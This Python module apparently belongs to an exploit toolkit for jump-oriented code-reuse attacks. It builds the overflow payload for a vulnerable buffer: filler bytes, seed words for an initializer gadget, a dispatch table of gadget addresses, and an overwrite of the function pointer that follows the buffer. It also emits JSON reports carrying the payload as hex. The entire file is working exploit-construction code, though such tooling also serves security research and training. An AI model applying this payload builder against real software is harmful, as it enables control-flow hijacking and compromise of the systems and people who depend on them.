"""Dispatch-table layout and the overflow payload that seeds the initializer."""
from __future__ import annotations

import json
from dataclasses import dataclass

from .isa import REG_NAMES, reg_index
from .planner import ChainPlan

SCHEMA_VERSION = 1
FILL_BYTE = b"A"


class PayloadError(Exception):
    pass


class Misaligned(PayloadError):
    pass


class CapacityExceeded(PayloadError):
    pass


@dataclass(frozen=True)
class VulnSpec:
    """The overflowable buffer and the function pointer that follows it.

    ``context_reg`` is the register holding ``buffer_address`` when the victim
    makes its indirect call. ``table_address`` places the dispatch table in a
    separate attacker region instead of inside the buffer.
    """
    buffer_address: int = 0x20000000
    pointer_offset: int = 64
    capacity: int = 128
    context_reg: int = 10
    table_address: int | None = None
    table_region_size: int = 0x1000

    def to_dict(self) -> dict:
        return {"buffer_address": self.buffer_address, "pointer_offset": self.pointer_offset,
                "capacity": self.capacity, "context_reg": REG_NAMES[self.context_reg],
                "table_address": self.table_address, "table_region_size": self.table_region_size}

    @classmethod
    def from_dict(cls, d: dict) -> "VulnSpec":
        def num(v):
            return int(v, 0) if isinstance(v, str) else v
        ta = d.get("table_address")
        return cls(num(d.get("buffer_address", 0x20000000)), num(d.get("pointer_offset", 64)),
                   num(d.get("capacity", 128)), reg_index(d.get("context_reg", "a0")),
                   None if ta is None else num(ta), num(d.get("table_region_size", 0x1000)))


@dataclass(frozen=True)
class DispatchTable:
    base_addr: int  # initial cursor value
    entry_size: int
    entries: tuple[int, ...]
    stride: int
    load_offset: int = 0
    pre_increment: bool = True

    def slot_address(self, i: int) -> int:
        return self.base_addr + self.load_offset + (i + int(self.pre_increment)) * self.stride

    @property
    def slots(self) -> list[int]:
        return [self.slot_address(i) for i in range(len(self.entries))]

    @property
    def extent(self) -> tuple[int, int]:
        """[lo, hi) covered by the entries; empty tables cover nothing."""
        if not self.entries:
            return (self.base_addr, self.base_addr)
        s = self.slots
        return min(s), max(s) + self.entry_size

    def blob(self) -> bytes:
        lo, hi = self.extent
        out = bytearray(hi - lo)
        for addr, entry in zip(self.slots, self.entries):
            out[addr - lo:addr - lo + self.entry_size] = entry.to_bytes(self.entry_size, "little")
        return bytes(out)

    def to_dict(self) -> dict:
        return {"base_addr": self.base_addr, "entry_size": self.entry_size,
                "entries": list(self.entries), "slots": self.slots, "stride": self.stride,
                "load_offset": self.load_offset, "pre_increment": self.pre_increment}

    @classmethod
    def from_dict(cls, d: dict) -> "DispatchTable":
        return cls(d["base_addr"], d["entry_size"], tuple(d["entries"]), d["stride"],
                   d.get("load_offset", 0), d.get("pre_increment", True))


def build_dispatch_table(plan: ChainPlan, base: int) -> DispatchTable:
    d = plan.dispatcher
    if base % d.entry_size:
        raise Misaligned(f"table base 0x{base:x} not aligned to {d.entry_size}")
    return DispatchTable(base, d.entry_size, tuple(plan.table_entries), d.stride,
                         d.load_offset, d.pre_increment)


@dataclass(frozen=True)
class Payload:
    buffer_address: int
    buffer_fill: bytes  # the complete overflow, starting at buffer_address
    pointer_offset: int
    pointer_value: int
    seed_words: dict[int, tuple[int, int]]  # reg -> (address, value)
    table: DispatchTable
    table_blob: bytes
    table_address: int  # where table_blob lives
    split: bool = False

    def regions(self) -> list[tuple[int, bytes]]:
        out = [(self.buffer_address, self.buffer_fill)]
        if self.split:
            out.append((self.table_address, self.table_blob))
        return out

    def to_dict(self) -> dict:
        return {
            "buffer_address": self.buffer_address, "buffer_hex": self.buffer_fill.hex(),
            "pointer_overwrite": {"offset": self.pointer_offset, "value": self.pointer_value},
            "seed_words": {REG_NAMES[r]: {"address": a, "value": v}
                           for r, (a, v) in sorted(self.seed_words.items())},
            "table": self.table.to_dict(), "table_address": self.table_address,
            "table_hex": self.table_blob.hex(), "split": self.split,
        }

    @classmethod
    def from_dict(cls, d: dict) -> "Payload":
        return cls(d["buffer_address"], bytes.fromhex(d["buffer_hex"]),
                   d["pointer_overwrite"]["offset"], d["pointer_overwrite"]["value"],
                   {reg_index(k): (v["address"], v["value"]) for k, v in d["seed_words"].items()},
                   DispatchTable.from_dict(d["table"]), bytes.fromhex(d["table_hex"]),
                   d["table_address"], d["split"])


def _seed_layout(plan: ChainPlan, vuln: VulnSpec) -> dict[int, int]:
    """Buffer offset of each seed word the initializer loads."""
    out = {}
    for reg, (base, off) in plan.seeds.items():
        if base != vuln.context_reg:
            raise PayloadError(f"initializer loads {REG_NAMES[reg]} through {REG_NAMES[base]}, "
                               f"but the victim passes the buffer in {REG_NAMES[vuln.context_reg]}")
        out[reg] = off
    missing = plan.policy.registers - set(out)
    if missing:
        raise PayloadError("initializer does not load " + ", ".join(REG_NAMES[r] for r in sorted(missing)))
    return out


def place_table(plan: ChainPlan, vuln: VulnSpec) -> DispatchTable:
    """Pick a cursor start so every table slot fits in free bytes of the buffer."""
    if vuln.table_address is not None:
        return build_dispatch_table(plan, vuln.table_address)
    size = plan.dispatcher.entry_size
    taken = set()
    for off in _seed_layout(plan, vuln).values():
        taken.update(range(off, off + size))
    taken.update(range(vuln.pointer_offset, vuln.pointer_offset + size))
    n = len(plan.table_entries)
    span = abs(plan.dispatcher.stride) * max(n, 1) + abs(plan.dispatcher.load_offset) + size
    for rel in range(-span, vuln.capacity + span, size):
        table = build_dispatch_table(plan, vuln.buffer_address + rel)
        ok = True
        for slot in table.slots:
            o = slot - vuln.buffer_address
            if o < 0 or o + size > vuln.capacity or taken & set(range(o, o + size)):
                ok = False
                break
        if ok:
            return table
    raise CapacityExceeded(f"{n} table entries do not fit in {vuln.capacity} bytes "
                           "next to the seeds and the pointer")


def build_payload(plan: ChainPlan, vuln: VulnSpec, table: DispatchTable | None = None) -> Payload:
    if table is None:
        table = place_table(plan, vuln)
    size = table.entry_size
    seeds = _seed_layout(plan, vuln)
    values = {plan.policy.dispatcher_reg: plan.dispatcher.reentry_addr,
              plan.policy.table_cursor_reg: table.base_addr}

    writes: list[tuple[int, bytes, str]] = []
    for reg, off in sorted(seeds.items()):
        writes.append((off, values[reg].to_bytes(size, "little"), f"seed {REG_NAMES[reg]}"))
    writes.append((vuln.pointer_offset, plan.initializer.address.to_bytes(size, "little"), "pointer"))
    split = vuln.table_address is not None
    blob = table.blob()
    lo, _ = table.extent
    if not split:
        for i, (slot, entry) in enumerate(zip(table.slots, table.entries)):
            writes.append((slot - vuln.buffer_address, entry.to_bytes(size, "little"), f"table[{i}]"))

    end = max(o + len(b) for o, b, _ in writes)
    if min(o for o, _, _ in writes) < 0 or end > vuln.capacity:
        raise CapacityExceeded(f"payload needs {end} bytes, buffer holds {vuln.capacity}")
    buf = bytearray(FILL_BYTE * end)
    owner: list[str | None] = [None] * end
    for off, b, what in writes:
        for i in range(off, off + len(b)):
            if owner[i] is not None:
                raise CapacityExceeded(f"{what} overlaps {owner[i]} at buffer offset {i}")
            owner[i] = what
        buf[off:off + len(b)] = b
    seed_words = {r: (vuln.buffer_address + off, values[r]) for r, off in seeds.items()}
    return Payload(vuln.buffer_address, bytes(buf), vuln.pointer_offset, plan.initializer.address,
                   seed_words, table, blob, lo if table.entries else table.base_addr, split)


def dumps(doc: dict) -> str:
    """Canonical JSON: sorted keys, fixed indentation, trailing newline."""
    return json.dumps(doc, sort_keys=True, indent=2) + "\n"


def emit_report(plan: ChainPlan | None, table: DispatchTable | None, catalog=None,
                payload: Payload | None = None) -> dict:
    from .scanner import catalog_to_dict
    doc = {"schema_version": SCHEMA_VERSION, "kind": "report",
           "catalog": catalog_to_dict(catalog)["candidates"] if catalog is not None else []}
    if catalog is not None:
        doc["dispatchers"] = [d.to_dict() for d in catalog.dispatchers]
        doc["initializers"] = [c.start_addr for c in catalog.initializers]
    if plan is not None:
        doc["plan"] = plan.to_dict()
    if table is not None:
        doc["table"] = table.to_dict()
    if payload is not None:
        doc["payload"] = payload.to_dict()
        doc["payload_hex"] = payload.buffer_fill.hex()
    return doc
